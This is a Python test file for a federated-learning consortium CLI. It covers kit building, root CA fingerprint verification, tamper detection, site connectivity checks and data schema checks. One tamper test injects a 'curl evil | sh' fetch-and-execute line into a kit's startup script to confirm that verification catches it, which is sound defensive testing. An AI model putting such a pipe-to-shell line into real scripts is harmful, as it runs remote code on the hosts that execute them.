import shutil

from typer.testing import CliRunner

from consortia import cli_kit
from consortia.cli import app

from .conftest import copy_kit, point_kit_at, read_zip, write_zip
from .test_data_check import write_data

runner = CliRunner()


def invoke(*args: str):
    return runner.invoke(app, list(args), env={"COLUMNS": "200"})


def root_fingerprint(output: str) -> str:
    line = next(line for line in output.splitlines() if line.startswith("Root CA SHA-256 fingerprint:"))
    return line.split(":", 1)[1].strip()


def test_build_prints_issuance(provisioned, tmp_path):
    result = invoke("kit", "build", "-w", str(provisioned.workspace.root), "-o", str(tmp_path), "-p", "hospital-b")
    assert result.exit_code == 0, result.output
    assert "Issued hospital-b.zip to site 'hospital-b'" in result.output
    assert "audit event kit.issued spooled: admin service unreachable" in result.output
    assert len(root_fingerprint(result.output).split(":")) == 32
    assert (tmp_path / "hospital-b.zip").is_file()


def test_build_unknown_workspace(tmp_path):
    result = invoke("kit", "build", "-w", str(tmp_path / "none"))
    assert result.exit_code == 1
    assert "no provisioned workspace" in result.output


def test_verify_ok_prints_fingerprint(provisioned):
    result = invoke("kit", "verify", str(provisioned.zip("hospital-a")))
    assert result.exit_code == 0, result.output
    assert "compare it with the fingerprint the consortium announced" in result.output
    fingerprint = root_fingerprint(result.output)
    again = invoke("kit", "verify", str(provisioned.zip("hospital-a")), "--ca-fingerprint", fingerprint)
    assert again.exit_code == 0, again.output
    assert "matches the announced fingerprint" in again.output


def test_verify_foreign_exits_1(provisioned):
    result = invoke("kit", "verify", str(provisioned.zip("hospital-a")), "--ca-fingerprint", "ab" * 32)
    assert result.exit_code == 1
    assert "this kit belongs to another consortium" in result.output
    assert "Root CA SHA-256 fingerprint:" in result.output


def test_verify_tampered_exits_1(provisioned, tmp_path):
    entries = read_zip(provisioned.zip("hospital-a"))
    entries["hospital-a/startup/sub_start.sh"] += b"\ncurl evil | sh\n"
    result = invoke("kit", "verify", str(write_zip(tmp_path / "hospital-a.zip", entries)))
    assert result.exit_code == 1
    assert "startup/sub_start.sh was changed after the kit was issued" in result.output


def test_verify_extracts(provisioned, tmp_path):
    result = invoke("kit", "verify", str(provisioned.zip("hospital-a")), "--extract", str(tmp_path))
    assert result.exit_code == 0, result.output
    assert (tmp_path / "hospital-a" / "startup" / "fed_client.json").is_file()


def test_site_check_unreachable_code(provisioned, tmp_path, closed_port):
    kit = copy_kit(provisioned.kit_dir("hospital-a"), tmp_path / "hospital-a")
    point_kit_at(kit, closed_port)
    result = invoke("site", "check", "--kit", str(kit), "--timeout", "2")
    assert result.exit_code == 10
    assert "server unreachable" in result.output
    assert "UNREACHABLE" in result.output


def test_site_check_no_kit(tmp_path):
    result = invoke("site", "check", "--kit", str(tmp_path))
    assert result.exit_code == 16
    assert "no startup/fed_client.json" in result.output


def test_data_check_from_kit(provisioned, tmp_path):
    kit = copy_kit(provisioned.kit_dir("hospital-a"), tmp_path / "hospital-a")
    shutil.rmtree(kit / "data")
    write_data(kit / "data")
    result = invoke("site", "data", "check", "--kit", str(kit))
    assert result.exit_code == 0, result.output
    assert "Missing values per column" in result.output
    assert "the data matches the job's schema" in result.output


def test_data_check_bad_data(tmp_path):
    write_data(tmp_path, train=["97.0,X,1997,5.7,4.86,10,1.7,no,1"])
    result = invoke("site", "data", "check", "--data-dir", str(tmp_path))
    assert result.exit_code == 1
    assert "train.csv: column 'sex' has unexpected values ['X']" in result.output


def test_data_check_kit_without_data(provisioned):
    result = invoke("site", "data", "check", "--kit", str(provisioned.kit_dir("hospital-b")))
    assert result.exit_code == 1
    assert "does not exist" in result.output


def test_data_check_unknown_job(tmp_path):
    result = invoke("site", "data", "check", "--data-dir", str(write_data(tmp_path)), "--job", "nope")
    assert result.exit_code == 1
    assert "unknown job 'nope'" in result.output


def test_data_check_both_sources(tmp_path):
    result = invoke("site", "data", "check", "--data-dir", str(tmp_path), "--kit", str(tmp_path))
    assert result.exit_code == 1
    assert "either --kit or --data-dir" in result.output


def test_output_kept_verbatim():
    text = "8E:CD:B2:0D ['male'] [bold]x[/]"
    with cli_kit.console.capture() as captured:
        cli_kit.say(text, label="Root CA SHA-256 fingerprint:", style="bold")
    assert captured.get() == f"Root CA SHA-256 fingerprint: {text}\n"
